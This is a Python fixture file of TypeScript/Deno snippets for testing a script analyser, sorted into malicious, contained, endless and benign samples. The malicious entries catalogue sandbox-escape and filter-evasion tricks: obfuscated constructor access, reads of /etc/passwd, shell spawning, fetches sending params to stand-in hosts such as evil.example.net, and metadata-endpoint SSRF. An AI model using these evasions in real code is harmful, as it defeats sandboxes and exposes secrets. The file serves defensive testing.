"""Scripts of type typescript: ones that no operator may ever see accepted, and ones of every day."""

from __future__ import annotations

from typing import Final

__all__ = ["BENIGN", "CONTAINED", "ENDLESS", "HOSTS", "MALICIOUS"]

HOSTS: Final = ("api.example.com", "hooks.example.com:8443")

# Written in pieces so that no scanner takes this file for a leak.
_JWT: Final = "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
_STRIPE: Final = "sk_" + "live_51H8xkKAbCdEfGhIj"
_SUPABASE: Final = "sb_" + "secret_N7UND0UgjKTVK"
_AWS: Final = "AKIA" + "IOSFODNN7EXAMPLE"
_GITHUB: Final = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"

#: Each with the rule that refuses it.
MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
    # The runtime's own interface
    ("Deno.exit(1)", "global"),
    (r"\u0044eno.exit(1)", "global"),
    (r"D\u{65}no.exit(1)", "global"),
    ("(Deno).readTextFileSync('/etc/passwd')", "global"),
    ("const { readTextFile } = Deno", "global"),
    ("const d = Deno; d.exit()", "global"),
    ("Deno?.env?.toObject()", "global"),
    ("export default () => Deno.env.get('SECRET')", "global"),
    ("export default async () => { await new Deno.Command('sh').output() }", "global"),
    ("globalThis.Deno.exit()", "global"),
    ("globalThis['De' + 'no'].exit()", "global"),
    ("globalThis[`Deno`]", "global"),
    ("globalThis[params.name]", "global"),
    ("window.Deno", "global"),
    ("self.Deno", "global"),
    ("const g = globalThis; g[params.x]", "global"),
    ("const { Deno: d } = globalThis", "global"),
    ("const { ['De' + 'no']: d } = globalThis", "global"),
    ("Reflect.get(globalThis, 'Deno')", "global"),
    ("Object.values(globalThis)", "global"),
    ("for (const k in globalThis) console.log(k)", "global"),
    ("process.exit(1)", "global"),
    ("process.env.SECRET", "global"),
    ("require('fs')", "global"),
    ("module.constructor", "global"),
    ("Buffer.from('x')", "global"),
    ("new Worker('data:text/javascript,')", "global"),
    ("new WebAssembly.Module(new Uint8Array())", "global"),
    ("new Proxy({}, {})", "global"),
    ("localStorage.setItem('a', 'b')", "global"),
    ("await caches.open('x')", "global"),
    ("new BroadcastChannel('x')", "global"),
    ("navigator.userAgent", "global"),
    ("location.href", "global"),
    ("document.cookie", "global"),
    ("Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)", "global"),
    ("prompt('password?')", "global"),
    ("arguments.callee", "global"),
    ("function f() { return arguments }", "global"),
    ("const Deno = { exit() {} }; Deno.exit()", "global"),
    ("function f(globalThis: any) { return globalThis.x }", "global"),
    ("typeof Deno === 'undefined' || Deno.exit()", "global"),
    ("doesNotExist()", "global"),
    ("declare const secrets: any; secrets.x", "global"),
    ("type Deno2 = 1; interface process2 {} export default () => process2", "global"),
    ("{ const hidden = 1 } hidden", "global"),
    ("function f(a = inner) { var inner = 1 } f()", "global"),
    # Where a tree may hide something
    ("const [, , x = Deno.exit()] = []", "global"),
    ("[1, , Deno.exit()]", "global"),
    ("[, [, Deno.exit()]]", "global"),
    ("let a, b; [a, , b = Deno] = []", "global"),
    ("for (const [, x = Deno] of [[]]) console.log(x)", "global"),
    ("class A { get [Deno.exit()]() { return 1 } }", "global"),
    ("class A { static [Deno.exit()] = 1 }", "global"),
    ("class A { static { Deno.exit() } }", "global"),
    ("class A { #x = Deno; static y = Deno }", "global"),
    ("class A extends Deno.Command {}", "global"),
    ("class A { constructor(private x = Deno) {} }", "global"),
    ("({ get [Deno.exit()]() { return 1 } })", "global"),
    ("({ async *[Deno]() {} })", "global"),
    ("const { a = Deno } = {}", "global"),
    ("function f({ x: { y = Deno } = {} } = {}) {}", "global"),
    ("try { throw 1 } catch ({ x = Deno }) {}", "global"),
    ("enum E { A = Deno.exit() }", "global"),
    ("`${`${Deno}`}`", "global"),
    ("`${1}${Deno.exit()}`", "global"),
    ("Deno.exit`x`", "global"),
    ("(0, Deno.exit)()", "global"),
    ("label: { Deno.exit(); break label }", "global"),
    ("if (1) ; else { Deno.exit() }", "global"),
    ("if (0) {} else Deno.exit()", "global"),
    (";;;Deno.exit()", "global"),
    ("function f() {}; Deno.exit()", "global"),
    ("switch (1) { case 1: ; Deno.exit() }", "global"),
    ("{ ; { ; Deno.exit() } }", "global"),
    ("for (const x of []) ; Deno.exit()", "global"),
    ("class A<T extends '>'> { x = Deno }", "construct"),
    ("class A<T> { x = Deno }", "global"),
    ("class A<T> extends Deno.Command<T> {}", "global"),
    ("switch (1) { default: Deno.exit() }", "global"),
    ("switch (1) { case Deno.exit(): }", "global"),
    ("async function* g() { yield* Deno.readDir('/') }", "global"),
    ("const f = async ({ a }, ...[b = Deno]) => b", "global"),
    ("delete Deno.exit", "global"),
    ("void Deno.exit()", "global"),
    ("export default { fix: Deno.exit }", "global"),
    ("export { Deno as default }", "global"),
    ("await using x = Deno.openSync('/etc/passwd')", "global"),
    ("// deno-lint-ignore-file\nDeno.exit()", "global"),
    ("// deno-lint-ignore reader/reader\nDeno.exit()", "global"),
    ("// @ts-nocheck\n// @ts-ignore\nDeno.exit()", "global"),
    ("/* c */ Deno /* d */ . /* e */ exit ( )", "global"),
    ("// comment\u2028Deno.exit()", "global"),
    ("// comment\rDeno.exit()", "global"),
    ("#!/usr/bin/env deno\nDeno.exit()", "global"),
    ("\ufeffDeno.exit()", "global"),
    ("1 <!--\nDeno.exit()", "syntax"),
    ("/* x\n*/ --> Deno.exit()", "syntax"),
    ("'use strict'; (Deno as any).exit()", "global"),
    ("(<any>Deno).exit()", "global"),
    ("Deno!.exit()", "global"),
    ("(Deno satisfies unknown as any).exit()", "global"),
    ("Deno.exit<never>(1)", "global"),
    ("@Deno.exit class A {}", "construct"),
    ("class A { @dec x = 1 }", "construct"),
    ("class A { accessor x = Deno }", "construct"),
    ("namespace N { export const x = Deno }", "construct"),
    ("declare module 'x' {}", "construct"),
    ("debugger", "construct"),
    ("with (params) { x }", "with"),
    # Modules
    ("import fs from 'node:fs'", "import"),
    ("import { x } from 'https://evil.example.net/x.ts'", "import"),
    ("import 'npm:left-pad'", "import"),
    ("import type { X } from './x.ts'", "import"),
    ("import x = require('fs')", "import"),
    ("import data from './x.json' with { type: 'json' }", "import"),
    ("import defer * as x from './x.ts'", "import"),
    ("export * from './x.ts'", "import"),
    ("export async function fix() { await fetch('https://api.example.com/x') }", "export"),
    ("const fix = () => 1; export { fix }", "export"),
    ("export { x } from './x.ts'", "import"),
    ("export type { X } from './x.ts'", "import"),
    ("export = 1", "import"),
    ("export default async () => await import('node:fs')", "import"),
    ("import('data:text/javascript,1')", "import"),
    ("const i = () => import(params.x)", "import"),
    ("import('./x.json', { with: { type: 'json' } })", "import"),
    ("import.meta.url", "import"),
    ("import.meta.resolve('x')", "import"),
    ("let x: typeof import('node:fs')", "import"),
    ("type X = import('./x.ts').Y", "import"),
    ("// @deno-types='npm:evil'\nconsole.log(1)", "import"),
    ("/** @jsxImportSource https://evil.example.net */\nconsole.log(1)", "import"),
    ("/// <reference types='npm:evil' />\nconsole.log(1)", "import"),
    # Code from text
    ("const F = params.path.reduce((o, key) => o[key], () => 1); F(params.code)()", "member"),
    ("const pick = (o, key) => o[key]; pick(pick, params.key)(params.code)()", "member"),
    ("((x) => x[params.key])(() => 0)(params.code)()", "member"),
    ("eval('1')", "global"),
    ("(0, eval)('1')", "global"),
    ("const e = eval; e('1')", "global"),
    ("new Function('return 1')()", "global"),
    ("Function('return this')()", "global"),
    ("(() => {}).constructor('return 1')()", "prototype"),
    ("(async () => {})['constructor']('x')", "prototype"),
    ("(() => {})['con' + 'structor']('x')", "prototype"),
    ("(() => {})[`con${'structor'}`]('x')", "prototype"),
    (r"(() => {})['\x63onstructor']('x')", "prototype"),
    (r"(() => {}).\u0063onstructor('x')", "prototype"),
    ("const k = 'constructor'; (() => {})[k]('x')", "prototype"),
    ("const k = ['con', 'structor'].join(''); (() => {})[k]('x')", "member"),
    ("const k = 'rotcurtsnoc'.split('').reverse().join(''); (() => {})[k]('x')", "member"),
    ("(() => {})[atob('Y29uc3RydWN0b3I=')]('x')", "member"),
    (
        "(() => {})[String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114)]('x')",
        "member",
    ),
    ("const { constructor: F } = () => {}; F('x')()", "prototype"),
    ("const { ['constructor']: F } = () => {}", "prototype"),
    ("const { ['con' + 'structor']: F } = () => {}", "prototype"),
    ("const { x: { constructor: F } } = { x: () => {} }", "prototype"),
    ("[].filter.constructor('x')()", "prototype"),
    ("''.constructor.constructor('x')()", "prototype"),
    ("params.constructor.constructor('x')", "prototype"),
    ("(function* () {}).constructor('x')", "prototype"),
    ("class A {} A.constructor('x')", "prototype"),
    ("error?.constructor?.['constructor']?.('x')", "prototype"),
    ("Object.getPrototypeOf(async () => {}).constructor", "prototype"),
    ("Object.getOwnPropertyDescriptor(() => {}, 'constructor')", "prototype"),
    ("({}).__proto__.x = 1", "prototype"),
    ("const o = { __proto__: params }", "prototype"),
    ("params['__proto__']['x'] = 1", "prototype"),
    ("Array.prototype.map = () => []", "prototype"),
    ("Object.prototype.toString = () => 'x'", "prototype"),
    ("Object.defineProperty({}, 'x', {})", "prototype"),
    ("Object.setPrototypeOf({}, null)", "prototype"),
    ("({}).__defineGetter__('x', () => 1)", "prototype"),
    ("({}).__lookupGetter__('x')", "prototype"),
    ("Error.prepareStackTrace = (_, frames) => frames", "prototype"),
    ("const k = 'constructor'; const o: any = {}; console.log(o[k])", "prototype"),
    ("Promise.resolve('x').then(eval)", "global"),
    ("['x'].map(Function)", "global"),
    ("class A extends Function {}", "global"),
    ("class A extends (params.x.constructor) {}", "prototype"),
    ("({ m() { return super.constructor } })", "prototype"),
    ("console.log({ x: (() => {}).constructor })", "prototype"),
    ("params.constructor.name.constructor", "prototype"),
    ("Object.prototype.toString.call.constructor('x')", "prototype"),
    ("globalThis[Symbol.for('Deno.internal')]", "global"),
    ("Symbol.for('Deno.internal')", "prototype"),
    ("const f = () => {}; f[params.key]('x')", "member"),
    ("params.list[params.key]('x')", "member"),
    ("params[params.key].call(null, 'x')", "member"),
    ("params[params.key]`x`", "member"),
    ("new params[params.key]('x')", "member"),
    ("(params[params.key] ?? console.log)('x')", "member"),
    ("Object[params.key](params)", "member"),
    ("const o = Math; Math[params.key]()", "member"),
    ("setTimeout('1 + 1', 0)", "timer"),
    ("setTimeout(`${params.code}`)", "timer"),
    ("const code = '1'; setTimeout(code, 0)", "timer"),
    ("setTimeout(params.code, 0)", "timer"),
    ("setTimeout('a' + params.b, 0)", "timer"),
    ("setTimeout(...['1'])", "timer"),
    ("const later = setTimeout; later('1')", "timer"),
    ("setTimeout.call(null, '1')", "timer"),
    ("setInterval(() => {}, 10)", "global"),
    # this
    ("this.Deno", "prototype"),
    ("class A { m() { return this['De' + 'no'] } }", "prototype"),
    # The language's own objects
    ("Math.random = () => 4", "builtin"),
    ("JSON.parse = () => 1", "builtin"),
    ("fetch = null", "builtin"),
    ("console.log = () => {}", "builtin"),
    ("delete Array.from", "builtin"),
    ("[Math.x] = [1]", "builtin"),
    ("({ a: Promise.all } = { a: 1 })", "builtin"),
    ("undefined = 1", "builtin"),
    ("Object.assign(Math, { random: () => 4 })", "builtin"),
    ("Object.freeze(Array)", "builtin"),
    ("for (params of []) {}", "builtin"),
    # Loops
    ("while (true) {}", "loop"),
    ("while (1) {}", "loop"),
    ("while (!0) {}", "loop"),
    ("while ('x') {}", "loop"),
    ("while ([]) {}", "loop"),
    ("while ({}) {}", "loop"),
    ("while (!false) {}", "loop"),
    ("while (1 < 2) {}", "loop"),
    ("while (typeof params) {}", "loop"),
    ("while (true || params.x) {}", "loop"),
    ("const on = true; while (on) {}", "loop"),
    ("let on = true; while (on) { await Promise.resolve() }", "loop"),
    ("for (;;) {}", "loop"),
    ("for (;;);", "loop"),
    ("for (; true; ) {}", "loop"),
    ("do {} while (true)", "loop"),
    ("do { await fetch('https://api.example.com/x') } while (1)", "loop"),
    ("while (true) { switch (1) { case 1: break } }", "loop"),
    ("while (true) { while (params.x) { break } }", "loop"),
    ("while (true) { (() => { return })() }", "loop"),
    ("const f = () => { for (;;); }", "loop"),
    ("async function f() { while (true) { await new Promise((r) => setTimeout(r, 1)) } }", "loop"),
    ("while (params.running) {}", "loop"),
    ("let i = 0; while (i < 10) { console.log(i) }", "loop"),
    ("for (let i = 0; i < 10; ) {}", "loop"),
    ("while (params === params) {}", "loop"),
    ("while ((1, 2)) {}", "loop"),
    ("const [,, f = (() => { for (;;); })()] = []", "loop"),
    ("class A { static { while (true); } }", "loop"),
    # Hosts
    ("await fetch('https://evil.example.net/')", "host"),
    ("await fetch('https://api.example.com.evil.net/')", "host"),
    ("await fetch('https://api.example.com@evil.net/')", "host"),
    (r"await fetch('https:\\evil.example.net/')", "host"),
    ("await fetch(' https://evil.example.net/')", "host"),
    ("await fetch('HTTPS://EVIL.example.net')", "host"),
    ("await fetch('https://ev' + 'il.example.net/' + params.x)", "host"),
    ("await fetch(`https://evil.example.net/${params.x}`)", "host"),
    ("await fetch(`https://evil.example.net${params.path}`)", "host"),
    ("const base = 'https://evil.example.net'; await fetch(`${base}/x`)", "host"),
    ("const urls = { a: 'https://evil.example.net/' }; await fetch(urls.a)", "host"),
    ("for (const u of ['https://evil.example.net/']) await fetch(u)", "host"),
    ("await fetch(new URL('/x', 'https://evil.example.net'))", "host"),
    ("await fetch(new Request('https://evil.example.net'))", "host"),
    ("await fetch('http://api.example.com/')", "host"),
    ("await fetch('https://api.example.com:8080/')", "host"),
    ("await fetch('https://hooks.example.com/')", "host"),
    ("await fetch('https://127.0.0.1/')", "host"),
    ("await fetch('https://2130706433/')", "host"),
    ("await fetch('https://0x7f.1/')", "host"),
    ("await fetch('https://localhost:54321/')", "host"),
    ("await fetch('https://[::1]/')", "host"),
    ("await fetch('https://169.254.169.254/latest/meta-data/')", "host"),
    ("await fetch('file:///etc/passwd')", "host"),
    ("await fetch('data:text/plain,x')", "host"),
    ("await fetch('/etc/passwd')", "host"),
    ("await fetch(...['https://evil.example.net'])", "host"),
    ("new WebSocket('wss://api.example.com/')", "global"),
    ("new EventSource('https://api.example.com/')", "global"),
    ("await fetch('wss://api.example.com/')", "host"),
    ("await fetch(['https:', '', 'evil.net'].join('/'))", "host"),
    ("await fetch(atob('aHR0cHM6Ly9ldmlsLm5ldC8='))", "hidden"),
    ("let u = 'https://evil.net/'; u += params.x; await fetch(u)", "host"),
    ("await fetch(params.ok ? 'https://evil.net/' : 'https://api.example.com/')", "host"),
    ("await fetch(`https://${'api.example.com'}.evil.net/`)", "host"),
    ("await fetch('blob:https://api.example.com/x')", "host"),
    ("const send = fetch; await send('https://evil.example.net/')", "host"),
    ("[...'https://evil.example.net/'].length; URL.createObjectURL(new Blob([]))", "prototype"),
    ("const u = new URL('https://api.example.com'); u.host = 'evil.net'; await fetch(u)", "host"),
    (
        "const u = new URL('https://api.example.com'); u.href = 'https://evil.net'; await fetch(u)",
        "host",
    ),
    ("await fetch(new URL('//evil.net', 'https://api.example.com'))", "host"),
    # Credentials
    (f"const key = '{_STRIPE}'", "credential"),
    (f"const key = '{_SUPABASE}'", "credential"),
    (f"const jwt = '{_JWT}'", "credential"),
    (f"const x = ['{_AWS}']", "credential"),
    (f"// {_GITHUB}\nconsole.log(1)", "credential"),
    (f"const key = '{_STRIPE[:7]}' + '{_STRIPE[7:]}'", "credential"),
    ("const key = `-----BEGIN PRIVATE KEY-----\nMIIEow\n-----END PRIVATE KEY-----`", "credential"),
    ("const password = 'hunter2'", "credential"),
    ("const o = { apiKey: 'abc123def456' }", "credential"),
    ("let dbPassword; dbPassword = `Zebra77`", "credential"),
    ("const f = (token = 'a1b2c3d4e5') => token", "credential"),
    ("const h = { Authorization: 'Bearer 9f8c7d6e5f4a' }", "credential"),
    ("const h = new Headers([['Authorization', 'Basic dXNlcjpwYXNz']])", "credential"),
    ("const h = new Headers(); h.set('x-api-key', 'abc123def456')", "credential"),
    ("const dsn = 'postgres://app:s3cr3t@db.example.com/app'", "credential"),
    ("const s = 'Server=db;User=sa;Password=Zebra77;'", "credential"),
    ("class A { #secret = 'abc123def456' }", "credential"),
    ("const auth = 'Basic ' + btoa('admin:hunter2')", "credential"),
    ("const c = { user: 'admin', pass: 'hunter2' }", "credential"),
    ("enum E { Password = 'hunter22' }", "credential"),
    ("const { password = 'hunter2' } = params", "credential"),
    ("const apiKey = params.x || 'abcdef123456'", "credential"),
    ("await fetch('https://api.example.com?api_key=abcdef123456')", "credential"),
    # What does not parse
    ("foo(", "syntax"),
    ("let = ;", "syntax"),
    ("const a = 1; const a = <div/>;", "syntax"),
    ("/* open", "syntax"),
    ("`open", "syntax"),
    ("return 1", "syntax"),
    ("'open", "syntax"),
    ("let a; let a", "syntax"),
    ("const a = 1; a()?.b = 2", "syntax"),
    ("export default () => { await params.x }", "syntax"),
    ("break", "syntax"),
)

#: Hostile by what they mean to reach, accepted by the analysis: what they reach is not there.
CONTAINED: Final[tuple[str, ...]] = (
    "(function () { return this })()",
    "function f() { return this.x } f()",
    "setTimeout(function () { this.x() }, 1)",
    "const g = () => this; g()",
    "const pick = (o, key) => o[key]; const F = pick(pick, params.key); F(1)",
    "const F = params.path.reduce((o, key) => o[key], {}); F(params.code)",
    "const F = params[params.a]; F('x')",
    "class A { m() { const g = this; return g } }",
    "class A { m(k: string) { return this[k] } }",
)

#: Hostile by never ending only. The analysis need not refuse them: a run ends at its limits.
ENDLESS: Final[tuple[str, ...]] = (
    "while (true) { if (false) break }",
    "while (true) { continue; break }",
    "while (true) { try { throw 1 } catch {} }",
    "export default () => { while (true) { try { return 1 } finally { continue } } }",
    "a: while (true) { b: while (true) { break b } }",
    "a: for (;;) { for (;;) { continue a } }",
    "function* g() { while (true) yield 1 }",
    "while (true) { if (params.stop) break }",
    "for (let i = 0; i < 10; i--) {}",
    "for (let i = 0; i < 10; i += 0) {}",
    "for (let i = 0; i < 10; i = i) {}",
    "for (let i = 10; i > 0; i++) {}",
    "for (let i = 0; i < Infinity; i++) {}",
    "for (let i = 0; i <= i; i++) {}",
    "for (let i = 0; i < Number.MAX_SAFE_INTEGER; i++) {}",
    "for (let i = 0; i < 1e300; i++) {}",
    "for (let i = 0n; i < 99999999999999999999n; i++) {}",
    "while (Math.random() >= 0) {}",
    "while (await Promise.resolve(true)) {}",
    "let x; while (x = {}) { console.log(x) }",
    "for (let i = 0; i < 1e9; i++) console.log(i)",
    "while (Date.now() > -1) {}",
    "const list = [1]; for (const x of list) list.push(x)",
    "const seen = new Set([1]); for (const x of seen) seen.add(x + 1)",
    "const list = [1]; for (let i = 0; i < list.length; i++) list.push(i)",
    "const list = []; while (list.length < 1e12) list.push(1)",
    "let done = false; while (!done) { done = false; }",
    "let i = 0; do { i = 0; } while (i < 1);",
    "let on = true; do { on = true; } while (on)",
    "for (let i = 0; i < 10; i++) { i = 0; }",
    "let n = 0; while (n < 10) { n = 0; n++; }",
    "let i = 0; while (i < 10) { continue; i++; }",
    "while (Date.now() > 0) {}",
    "function f() { f() } f()",
    "const again = () => { setTimeout(again, 0) }; again()",
    "const f = async () => { await f() }",
    "function f() { Promise.resolve().then(f) } f()",
)

BENIGN: Final[tuple[str, ...]] = (
    # Names that other runtimes have for their own things.
    """
    class Batch {
      items = params.items;
      run() {
        const self = this;
        const process = (item: number) => item + self.items.length;
        return self.items.map(process);
      }
    }
    export default () => ({ document: new Batch().run() });
    """,
    # Clear a cache through a webhook.
    """
    export default async function fix(params, error) {
      const response = await fetch("https://api.example.com/cache/clear", {
        method: "POST",
        headers: { "content-type": "application/json", authorization: `Bearer ${params.token}` },
        body: JSON.stringify({ key: error.captured.key, reason: error.message }),
      });
      if (!response.ok) throw new Error(`cache: ${response.status} ${await response.text()}`);
      return { cleared: true, status: response.status };
    }
    """,
    # Try again with growing pauses.
    """
    const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
    export default async function fix(params: { id: string }) {
      let last: unknown = null;
      for (let attempt = 0; attempt < 5; attempt++) {
        try {
          const response = await fetch(`https://api.example.com/jobs/${encodeURIComponent(params.id)}/retry`);
          if (response.ok) return await response.json();
          last = new Error(`status ${response.status}`);
        } catch (cause) {
          last = cause;
        }
        await sleep(100 * 2 ** attempt);
      }
      throw last;
    }
    """,
    """
    interface Item { id: number; price: number }
    type Totals = Record<string, number>;
    export default (params: { items: Item[] }): Totals => {
      const totals: Totals = {};
      for (const { id, price } of params.items) totals[id] = (totals[id] ?? 0) + price;
      return totals;
    };
    """,
    # A plain script.
    "console.log(params.greeting, error.message)",
    "const ratio = params.done / params.total;\nif (ratio > 0.9) console.warn('nearly full', ratio.toFixed(2))",
    """
    export default function fix(params, error) {
      const { user_id: userId, status } = error.captured ?? {};
      if (!/^[0-9]+$/.test(userId ?? "")) throw new TypeError(`no user: ${userId}`);
      return { userId: Number(userId), retry: status === "503" };
    }
    """,
    # Holes in a pattern.
    """
    export default (params, error) => {
      const [, code, , detail = "none"] = /^(\\d+)(:)(.*)$/.exec(error.message) ?? [];
      return { code: Number.parseInt(code ?? "0", 10), detail };
    };
    """,
    """
    export default async (params) => {
      const results = await Promise.all(
        params.ids.map((id: string) =>
          fetch(`https://api.example.com/items/${id}`, { signal: AbortSignal.timeout(2_000) })
        ),
      );
      return results.map((response) => response.status);
    };
    """,
    """
    export default async (params) => {
      const query = new URLSearchParams({ q: params.q, limit: "10" });
      const url = new URL("https://api.example.com/search");
      url.search = query.toString();
      const response = await fetch(url);
      return (await response.json()).length;
    };
    """,
    """
    export default async (params) => {
      const settled = await Promise.allSettled(params.urls.map((url) => fetch(url)));
      return settled.filter((one) => one.status === "fulfilled").length;
    };
    """,
    """
    class ApiError extends Error {
      readonly status: number;
      constructor(message: string, status: number) {
        super(message);
        this.name = "ApiError";
        this.status = status;
      }
      get isTemporary() { return this.status >= 500; }
    }
    export default async () => {
      const response = await fetch("https://hooks.example.com:8443/alive");
      if (!response.ok) throw new ApiError("not alive", response.status);
      return "alive";
    };
    """,
    """
    enum Level { Low = 1, High = Low * 2, Named = "x".length }
    const enum Kind { A = "a", B = "b" }
    export default () => [Level.High, Level[1], Kind.A];
    """,
    """
    const handlers = {
      retry: async (id: string) => `retry ${id}`,
      skip: async (id: string) => `skip ${id}`,
    };
    export default async (params) => {
      const handler = handlers[params.action];
      if (!handler) throw new RangeError(`unknown action ${params.action}`);
      return await handler(params.id);
    };
    """,
    """
    export default async (params) => {
      const queue = [...params.pages];
      let seen = 0;
      while (queue.length > 0) {
        const page = queue.shift();
        const response = await fetch(`https://api.example.com/pages/${page}`);
        const body = await response.json();
        seen += body.rows.length;
        if (body.next) queue.push(body.next);
      }
      return seen;
    };
    """,
    """
    export default async () => {
      let url: string | null = "https://api.example.com/list?page=1";
      const rows: unknown[] = [];
      while (url !== null) {
        const response: Response = await fetch(url);
        const page = await response.json();
        rows.push(...page.rows);
        url = page.next ?? null;
      }
      return rows.length;
    };
    """,
    """
    export default async () => {
      const deadline = Date.now() + 3_000;
      while (Date.now() < deadline) {
        const response = await fetch("https://api.example.com/health");
        if (response.ok) return true;
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
      return false;
    };
    """,
    """
    export default async () => {
      let tries = 0;
      while (true) {
        const response = await fetch("https://api.example.com/health");
        if (response.ok) break;
        if (++tries >= 3) throw new Error("still down");
      }
      return tries;
    };
    """,
    """
    export default (params, error) => {
      const pattern = /id=(\\d+)/g;
      const ids: number[] = [];
      let match: RegExpExecArray | null;
      while ((match = pattern.exec(error.message)) !== null) ids.push(Number(match[1]));
      return ids;
    };
    """,
    """
    export default async () => {
      const controller = new AbortController();
      const timer = setTimeout(() => controller.abort(), 1_000);
      try {
        const response = await fetch("https://api.example.com/x", { signal: controller.signal });
        return response.status;
      } finally {
        clearTimeout(timer);
      }
    };
    """,
    """
    async function* pages(first: number, last: number) {
      for (let page = first; page <= last; page++) yield page;
    }
    export default async () => {
      let sum = 0;
      for await (const page of pages(1, 3)) sum += page;
      return sum;
    };
    """,
    """
    export default (params) => {
      const counts = new Map<string, number>();
      for (const word of params.text.split(/\\s+/)) counts.set(word, (counts.get(word) ?? 0) + 1);
      return Object.fromEntries([...counts].sort(([a], [b]) => a.localeCompare(b)));
    };
    """,
    """
    export default (params) => {
      const clean: Record<string, unknown> = {};
      for (const [key, value] of Object.entries(params)) {
        if (key === "__proto__" || key === "constructor") continue;
        if (value !== null && value !== undefined) clean[key] = value;
      }
      return clean;
    };
    """,
    """
    export default (params) => {
      const has = (key: string) => Object.prototype.hasOwnProperty.call(params, key);
      return ["a", "b"].filter(has);
    };
    """,
    """
    export default async (params, error) => {
      try {
        await fetch("https://api.example.com/x");
      } catch (caught) {
        return { kind: caught?.constructor?.name, text: caught instanceof Error ? caught.message : String(caught) };
      }
      return error.message.includes("constructor") ? "a class" : null;
    };
    """,
    """
    export default async (params) => {
      const bytes = new TextEncoder().encode(params.text);
      const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
      return Array.from(digest, (byte) => byte.toString(16).padStart(2, "0")).join("");
    };
    """,
    """
    export default async (params) => {
      const response = await fetch("https://hooks.example.com:8443/slack", {
        method: "POST",
        body: JSON.stringify({
          text: `Fixed <https://wiki.example.org/runbook|the runbook>`,
          link: "https://wiki.example.org/runbook",
        }),
      });
      return response.status;
    };
    """,
    """
    export default async (params) => {
      const headers = new Headers({ Origin: "https://app.example.org" });
      headers.set("authorization", `Bearer ${params.token}`);
      headers.set("x-api-key", params.apiKey);
      return (await fetch("https://api.example.com/y", { headers, credentials: "same-origin" })).ok;
    };
    """,
    """
    export default (params, error) => {
      if (error.message.startsWith("password authentication failed")) return "password";
      switch (error.captured.code) {
        case "PGRST301":
        case "token_expired":
          return { action: "refresh", tokenType: "bearer" };
        default:
          return { action: "none", secretName: "API_TOKEN" };
      }
    };
    """,
    """
    const matrix = (rows: number[][]) => rows.map((row, i) => row.reduce((sum, value, j) => sum + value * rows[j]![i]!, 0));
    export default (params) => matrix(params.rows);
    """,
    """
    function hash(text: string): string {
      let result = 0;
      for (let i = 0; i < text.length; i++) {
        result = ((result << 5) - result) + text.charCodeAt(i);
        result = result & result;
      }
      return Math.abs(result).toString(36);
    }
    export default (params, error) => hash(error.message);
    """,
    """
    const walk = (node: any): number => node.children.reduce((sum: number, child: any) => sum + walk(child), 1);
    const factorial = (n: number): number => (n <= 1 ? 1 : n * factorial(n - 1));
    export default (params) => [walk(params.tree), factorial(5)];
    """,
    """
    export default (params) => {
      let low = 0;
      let high = params.sorted.length - 1;
      while (low <= high) {
        const middle = (low + high) >>> 1;
        const value = params.sorted[middle];
        if (value === params.wanted) return middle;
        if (value < params.wanted) low = middle + 1;
        else high = middle - 1;
      }
      return -1;
    };
    """,
    """
    outer: for (const row of params.rows) {
      for (const cell of row) {
        if (cell === null) continue outer;
        if (cell === params.stop) break outer;
      }
      console.log(row.join(","));
    }
    """,
    """
    export default async (params) => {
      const race = Promise.race([
        fetch("https://api.example.com/slow"),
        new Promise<never>((_, reject) => setTimeout(() => reject(new Error("too slow")), 500)),
      ]);
      return (await race).status;
    };
    """,
    """
    export default (params) => {
      const date = new Date(params.since);
      const days = Math.floor((Date.now() - date.getTime()) / 86_400_000);
      return new Intl.DateTimeFormat("en", { dateStyle: "short" }).format(date) + ` ${days}`;
    };
    """,
    """
    export default async (params) => {
      const form = new FormData();
      form.append("file", new Blob([JSON.stringify(params)], { type: "application/json" }), "p.json");
      await fetch("https://api.example.com/upload", { method: "PUT", body: form });
      return structuredClone({ sent: true, at: performance.now() > 0 });
    };
    """,
    """
    abstract class Step<T> {
      protected constructor(private readonly name: string, public attempts = 0) {}
      abstract run(): Promise<T>;
      async tried(): Promise<T> {
        this.attempts += 1;
        return await this.run();
      }
    }
    class Ping extends Step<number> {
      static #made = 0;
      constructor() { super("ping"); Ping.#made++; }
      override async run() { return (await fetch("https://api.example.com/ping")).status; }
    }
    export default async () => await new Ping().tried();
    """,
    """
    function parse(value: string): number;
    function parse(value: number): number;
    function parse(value: unknown): number {
      if (typeof value === "string") return Number(value);
      if (typeof value === "number") return value;
      throw new TypeError("neither text nor number");
    }
    function assertText(value: unknown): asserts value is string {
      if (typeof value !== "string") throw new TypeError("no text");
    }
    export default (params) => { assertText(params.x); return parse(params.x); };
    """,
    """
    declare const params: { rows: { id: number; ok: boolean }[] };
    declare const error: { message: string };
    const failed = params.rows.filter(({ ok }) => !ok).map(({ id }) => id);
    console.log(JSON.stringify({ failed, message: error.message }));
    """,
    """
    const defaults = { limit: 10, tags: ["a", "b"] } as const satisfies Record<string, unknown>;
    export default (params) => ({ ...defaults, ...params, tags: [...defaults.tags, ...(params.tags ?? [])] });
    """,
    """
    export default async (params) => {
      for (const id of params.ids) {
        const response = await fetch(`https://api.example.com/sessions/${id}`, { method: "DELETE" });
        if (response.status === 404) continue;
        if (!response.ok) throw new Error("not deleted", { cause: response.status });
      }
      return params.ids.length;
    };
    """,
    """
    // deno-lint-ignore-file no-explicit-any
    export default async function (params: any, { captured }: { captured?: Record<string, string> }) {
      const key = captured?.key ?? params.key;
      const value = params[key];
      return value === undefined ? null : { [key]: value };
    }
    """,
    """
    const token = params.token;
    const tokenUrl = "https://api.example.com/token";
    const response = await fetch(tokenUrl, { headers: { Authorization: "Bearer " + token } });
    console.log(response.status);
    """,
    """
    const debounce = <T,>(items: T[], size: number): T[][] => {
      const chunks: T[][] = [];
      for (let i = 0; i < items.length; i += size) chunks.push(items.slice(i, i + size));
      return chunks;
    };
    export default (params) => debounce(params.items, 2);
    """,
    """
    let remaining = params.count;
    do {
      console.log(remaining);
      remaining -= 1;
    } while (remaining > 0);
    """,
    """
    export default async (params) => {
